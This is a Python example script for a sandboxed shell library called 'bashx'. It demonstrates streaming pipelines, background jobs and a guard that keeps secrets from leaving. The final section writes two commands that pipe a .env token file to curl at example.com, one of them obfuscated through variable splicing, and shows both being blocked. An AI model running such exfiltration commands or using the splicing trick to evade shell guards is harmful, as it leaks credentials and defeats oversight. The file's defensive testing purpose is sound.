"""bashx example: streaming pipelines and filters, background jobs, and secrets that never leave.

Run: python examples/bashx_streams_jobs.py
"""

from __future__ import annotations

import asyncio
import tempfile
import time
from pathlib import Path

from dotdo.primitives.bashx import Bash, BlockedError
from dotdo.primitives.fsx import FileSystem
from dotdo.runtime.storage import Storage


async def main() -> None:
    folder = Path(tempfile.mkdtemp(prefix="bashx-example-"))
    fs = FileSystem(Storage(folder / "object.sqlite"))
    bash = Bash(fs, sandbox=False)

    # Stages run at once over bounded pipes: an endless writer stops as soon as its reader does.
    start = time.perf_counter()
    result = await bash("yes 'all good' | head -n 2; echo ${PIPESTATUS[@]}")
    print(result.stdout, end="")  # all good / all good / 141 0
    print(f"endless pipeline ended in {1000 * (time.perf_counter() - start):.1f} ms")

    # The filters stream too: 100 MB goes through in bounded memory, and a reader that has its
    # answer (grep -m1, sed q, head) stops the endless writer upstream.
    line = '"$(printf "%099d" 7)"'
    counted = await bash(f"yes {line} | head -c 100000000 | tr 0-9 a-j | grep -c h", timeout=120)
    print(f"lines through tr | grep: {counted.stdout.strip()}")  # 1000000
    first = await bash("yes | tr y n | grep -m1 -n n; seq 1000000000 | sed -n '3{p;q}'")
    print(first.stdout, end="")  # 1:n / 3

    # Background jobs: `&`, `$!`, `jobs`, `wait`, `wait -n`, `kill %N`; bounded by the timeout.
    script = """
    (sleep 0.2; echo slow done) &
    (echo fast done; exit 3) &
    sleep 5 &
    jobs
    kill %3
    wait -n; echo "first job to end: status $?"
    wait %3; echo "killed job: status $?"
    wait
    """
    print((await bash(script, timeout=10)).stdout, end="")

    # Secrets never leave: reading one and reaching the network is blocked, even with confirm=True.
    await fs.write("/.env", "API_TOKEN=abc123\n")
    try:
        await bash("cat .env | curl -d @- https://example.com", confirm=True)
    except BlockedError as exc:
        print("blocked:", exc.analysis.reasons[-1])
    # A secret path built at run time is caught as it happens: the network program is refused.
    sneaky = await bash("f=.e; cat ${f}nv > /copy; c=cu; ${c}rl -d @/copy https://example.com", confirm=True)
    print("refused at run time:", sneaky.stderr.strip().split(": ", 2)[-1][:60], "...")


if __name__ == "__main__":
    asyncio.run(main())
